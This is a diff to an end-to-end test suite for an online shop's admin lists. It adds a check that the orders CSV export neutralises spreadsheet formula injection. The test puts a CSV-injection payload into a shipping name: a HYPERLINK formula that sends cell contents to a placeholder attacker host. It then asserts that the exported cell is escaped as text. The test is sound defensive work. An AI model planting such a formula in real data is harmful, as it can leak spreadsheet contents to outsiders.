@@ -7,6 +7,8 @@ import { withoutLiveStreams } from '../support/layout';
 import { RunningServer } from '../support/server';
 
 const ADMIN = { email: 'lists-admin@bazaar.test', password: 'lists-pass-1' };
+/** What an attacker types as a shipping name: a live formula in a spreadsheet unless neutralised. */
+const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
 /** Every admin list of PRODUCT.md, by its path, and how a row of it is found. */
 const LISTS: { path: string; rows: string }[] = [
@@ -33,6 +35,8 @@ const LISTS: { path: string; rows: string }[] = [
 describe('admin lists: Export and Print', () => {
   let server: RunningServer;
   let browser: Browser;
+  let retailName: string;
+  let orderNumber: string;
 
   useServerAndBrowser({ ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password, SEED_DEMO: 'true', EARNINGS_CLEARING_HOURS: '0' }, (s, b) => {
     server = s;
@@ -54,13 +58,15 @@ describe('admin lists: Export and Print', () => {
     const wholesale = (await api('/products?category=wholesale&perPage=1')).body.items[0];
     expect((await api('/enquiries', { method: 'POST', token: customer, body: { productId: wholesale.id, quantity: 5, message: 'Price for 5 tonnes?' } })).status).toBe(201);
     const retail = (await api('/products?category=retail&perPage=1')).body.items[0];
+    retailName = retail.name;
     const order = await api('/checkout', {
       method: 'POST',
       token: customer,
       headers: { 'Idempotency-Key': 'lists-order-0001' },
-      body: { items: [{ productId: retail.id, quantity: 1 }], shippingAddress: { name: 'Meera Iyer', phone: '+91 98220 11111', line1: '14 FC Road', city: 'Pune', state: 'Maharashtra', pincode: '411004' }, paymentMethod: 'cod' },
+      body: { items: [{ productId: retail.id, quantity: 1 }], shippingAddress: { name: FORMULA_NAME, phone: '+91 98220 11111', line1: '14 FC Road', city: 'Pune', state: 'Maharashtra', pincode: '411004' }, paymentMethod: 'cod' },
     });
     expect(order.status).toBe(201);
+    orderNumber = order.body.orderNumber;
     expect((await api('/me/tickets', { method: 'POST', token: customer, body: { subject: 'order issue', message: 'Where is my order?' } })).status).toBe(201);
     expect((await api('/contact', { method: 'POST', body: { name: 'Meera Iyer', email: 'meera.lists@example.in', subject: 'other', message: 'Do you deliver to Nashik?' } })).status).toBe(201);
     // A demo provider with a completed booking withdraws their earnings: a payout.
@@ -104,6 +110,28 @@ describe('admin lists: Export and Print', () => {
     await printButton.click();
     expect(await page.evaluate(() => (window as unknown as { printed: number }).printed)).toBe(1);
     if (path === 'reviews' || path === 'users') await snap(page, `lists-export-print-${path}`);
+    await page.close();
+  }, 60_000);
+
+  it('exports orders one row each, their items in one cell and a typed formula kept as text', async () => {
+    const page = await adminPage();
+    await page.goto(`${server.url}/admin/orders`);
+    await page.locator('tbody tr').first().waitFor();
+    const exportButton = page.getByTestId('orders-export');
+    for (let i = 0; i < 50 && !(await exportButton.isEnabled()); i++) await page.waitForTimeout(100);
+    const [download] = await Promise.all([page.waitForEvent('download'), exportButton.click()]);
+    expect(download.suggestedFilename()).toBe('orders.csv');
+    const csv = readFileSync((await download.path())!, 'utf8');
+    // No line break inside any cell here: one CSV line per order (the only order made for this file).
+    const [header, ...rows] = csv.trimEnd().split('\r\n');
+    expect(rows).toHaveLength(1);
+    const columns = header.split(',');
+    expect(columns).toEqual(expect.arrayContaining(['orderNumber', 'customerName', 'total', 'status', 'items', 'shippingAddress.name', 'shippingAddress.city']));
+    expect(rows[0]).toContain(orderNumber);
+    // Quoted (it holds commas and quotes) and prefixed with an apostrophe: text, not a formula.
+    expect(rows[0]).toContain(`"'${FORMULA_NAME.replace(/"/g, '""')}"`);
+    expect(rows[0]).not.toMatch(/(^|,)"?[=+@]/);
+    expect(rows[0]).toContain(`1 x ${retailName}`);
     await page.close();
   }, 60_000);
 
